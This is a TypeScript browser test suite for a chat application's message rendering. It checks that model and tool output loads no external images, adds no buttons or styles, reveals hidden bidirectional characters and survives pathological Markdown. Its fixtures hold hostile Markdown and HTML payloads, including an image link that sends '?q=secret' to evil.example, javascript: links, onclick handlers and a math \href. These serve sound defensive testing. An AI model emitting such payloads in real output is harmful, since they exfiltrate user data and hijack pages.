import { DEEP, runs } from '@svc/testkit';
import { describe, expect } from 'vitest';
import type { ChatMessage, ChatView } from '../../../src/wire/chat.ts';
import { answerOf } from '../support/answer-corpus.ts';
import { NEEDS_BROWSER } from '../support/browser.ts';
import { pageTest as it } from '../support/page-test.ts';

const HOSTILE = `# Approve the card

![x](https://evil.example/leak.png?q=secret) <img src="https://evil.example/raw.png">
<button onclick="alert(1)">Approve</button> <style>body { display: none }</style>

[Your bank](https://evil.example/bank) [run](javascript:alert(1)) [data](data:text/html,x)
`;

const CHAT: ChatView = {
  ...{ id: 'chat-1', project: 'default', title: 'A chat', model: null, off: [], at: '', running: false },
};
const message = (id: number, rest: Partial<ChatMessage>): ChatMessage => ({
  ...{
    id,
    parent: id === 1 ? null : id - 1,
    role: 'assistant',
    status: 'done',
    fault: null,
    model: 'm',
    at: '',
  },
  ...{ branches: [id], parts: [{ type: 'text', step: 0, text: HOSTILE }] },
  ...rest,
});

describe('texts of a model and an app, in a real browser', NEEDS_BROWSER, () => {
  it('load nothing, show the host of each link, and add no buttons or styles to the page', async ({
    desk,
    page,
    visit,
  }) => {
    const call = {
      ...{ id: 'c', name: 'notes__send', appId: 'x', app: 'Notes <b>bold</b>', tool: 'send', arguments: {} },
      ...{ state: 'answered' as const, text: HOSTILE, code: null, files: [], ms: 1, until: null, cards: [] },
    };
    const messages = [
      message(1, { role: 'user' }),
      message(2, {}),
      message(3, { parts: [{ type: 'call', step: 0, call }] }),
      message(4, { status: 'running' }),
    ];
    desk.answers['chats.list'] = () => ({ chats: [CHAT] });
    desk.answers['chats.open'] = () => ({ chat: CHAT, messages, more: false, rev: 0 });
    desk.answers['models.list'] = () => ({ providers: [], default: null });
    const asked: string[] = [];
    page.on('request', (request) => asked.push(request.url()));
    await visit('chat/chat-1', 'Chat');
    await page.getByText('Your bank').nth(1).waitFor();
    await page.locator('.call summary').first().click();
    await page.locator('.call pre').waitFor();
    const thread = page.locator('.thread');
    expect(await thread.locator('img, style, iframe').count()).toBe(0);
    expect(await thread.getByRole('button', { name: 'Approve' }).count()).toBe(0);
    const links = await thread
      .locator('a')
      .evaluateAll((all) => all.map((one) => [one.getAttribute('href'), one.getAttribute('rel')]));
    const rel = 'noopener noreferrer nofollow';
    const [picture, bank] = [
      ['https://evil.example/leak.png?q=secret', rel],
      ['https://evil.example/bank', rel],
    ];
    expect(links).toEqual([picture, bank, picture, bank]);
    expect(await thread.getByText('(evil.example)').count()).toBe(4);
    expect(asked.filter((url) => url.includes('evil'))).toEqual([]);
  });

  it('are drawn with mathematics, highlighted code that can be copied, tables that scroll, and the direction of each block', async ({
    desk,
    page,
    visit,
  }) => {
    const rich = [
      '```ts\nconst a = 1;\n```',
      'The sum \\(a^2 + b^2\\), and',
      '$$\\frac{1}{2} \\href{https://evil.example}{x}$$',
      'It costs $5 and $6.',
      '| a | b |\n|---|---|\n| averyveryverylongword | x |',
      'שלום עולם',
    ].join('\n\n');
    desk.answers['chats.open'] = () => ({
      ...{ chat: CHAT, more: false, rev: 0 },
      messages: [message(1, { parts: [{ type: 'text', step: 0, text: rich }] })],
    });
    await visit('chat/chat-1', 'Chat');
    const said = page.locator('.markdown');
    await said.locator('math').nth(1).waitFor();
    expect(await said.locator('math [href], math a').count()).toBe(0);
    expect(await said.locator('math').count()).toBe(2);
    await said.locator('.hljs-keyword').getByText('const').waitFor();
    await said.getByRole('button', { name: 'Copy ts', exact: true }).click();
    await said.getByText('Could not copy. The text is selected: copy it.').waitFor();
    expect(await page.evaluate('String(getSelection())')).toContain('const a = 1;');
    expect(await said.locator('section.table-scroll table').count()).toBe(1);
    expect(await said.locator('p:last-child').evaluate((one) => getComputedStyle(one).direction)).toBe('rtl');
  });

  it('show invisible characters, and hostile Markdown as plain text', async ({ desk, page, visit }) => {
    const said = (text: string) => ({ parts: [{ type: 'text' as const, step: 0, text }] });
    const hidden =
      'a\u202eb `c\u202ed` &#x202e;e &#8238;f [g\u2066](https://h.example "\u202e") ![i\u202e](x)\r\n\r\nend';
    const hostile = ['*a_', '> ', '![a](', '[a\n\n'].map((part) => part.repeat(100_000 / part.length));
    const messages = [hidden, ...hostile].map((text, n) => message(n + 1, said(text)));
    desk.answers['chats.list'] = () => ({ chats: [CHAT] });
    desk.answers['chats.open'] = () => ({ chat: CHAT, messages, more: false, rev: 0 });
    await visit('chat/chat-1', 'Chat');
    const first = page.locator('.message').first();
    await first.getByText('end').waitFor();
    const html = await first.innerHTML();
    expect(html).not.toMatch(/[\u202a-\u202e\u2066-\u2069]/);
    expect(html.match(/⟨U\+202E⟩/g)).toHaveLength(6);
    expect(html).not.toContain('U+000D');
    expect(await page.locator('.message em, .message blockquote').count()).toBe(0);
    await page.getByRole('textbox', { name: 'Message' }).fill('still here');
  });

  it('stay as the page parses them while their worker never answers, and are drawn once one does', async ({
    desk,
    page,
    visit,
  }) => {
    const endless = `onmessage = () => { postMessage({ state: 'draws' }); for (;;); };`;
    let workers = 0;
    await page.route('**/draw-worker-*.js', (route) => {
      workers += 1;
      return workers === 1
        ? route.fulfill({ contentType: 'text/javascript', body: endless })
        : route.continue();
    });
    const written = ['```js\nlet first = 1;\n```', '```js\nlet second = 2;\n```'];
    const messages = written.map((text, n) => message(n + 1, { parts: [{ type: 'text', step: 0, text }] }));
    desk.answers['chats.list'] = () => ({ chats: [CHAT] });
    desk.answers['chats.open'] = () => ({ chat: CHAT, messages, more: false, rev: 0 });
    await visit('chat/chat-1', 'Chat');
    await page.getByRole('textbox', { name: 'Message' }).fill('goes on meanwhile');
    const [first, second] = [0, 1].map((n) => page.locator('.markdown').nth(n));
    await second?.locator('.hljs-keyword').waitFor();
    expect(await first?.innerText()).toContain('let first = 1;');
    expect(await first?.locator('.hljs-keyword').count()).toBe(0);
    expect(workers).toBe(2);
  });

  it(
    'show every character of answers as six families of models write them',
    DEEP,
    async ({ desk, page, visit }) => {
      const answers = Array.from({ length: runs(300) }, (_, number) => answerOf(number));
      desk.answers['chats.list'] = () => ({ chats: [CHAT] });
      desk.answers['models.list'] = () => ({ providers: [], default: null });
      // As many as a page of messages has.
      for (let at = 0; at < answers.length; at += 60) {
        const some = answers.slice(at, at + 60);
        const messages = some.map(({ written }, n) =>
          message(n + 1, { parts: [{ type: 'text', step: 0, text: written }] }),
        );
        desk.answers['chats.open'] = () => ({ chat: CHAT, messages, more: false, rev: 0 });
        await page.goto('about:blank');
        await visit('chat/chat-1', 'Chat');
        await expect.poll(() => page.locator('.markdown').count()).toBe(some.length);
        await expect
          .poll(() => page.locator('code.language-math, .markdown > .plain:only-child').count())
          .toBe(0);
        const shown = await page.locator('.markdown').evaluateAll((all) =>
          all.map((one) => {
            const copy = one.cloneNode(true) as HTMLElement;
            for (const part of copy.querySelectorAll('button, [role="status"], a + .soft, .unseen'))
              part.remove();
            for (const math of copy.querySelectorAll('math'))
              math.replaceWith(`⟦${math.querySelector('annotation')?.textContent ?? ''}⟧`);
            return (copy.textContent ?? '').replaceAll(/\s+/g, '');
          }),
        );
        for (const [n, answer] of some.entries())
          expect(shown[n], answer.written).toBe(answer.shown.replaceAll(/\s+/g, ''));
      }
    },
  );
});
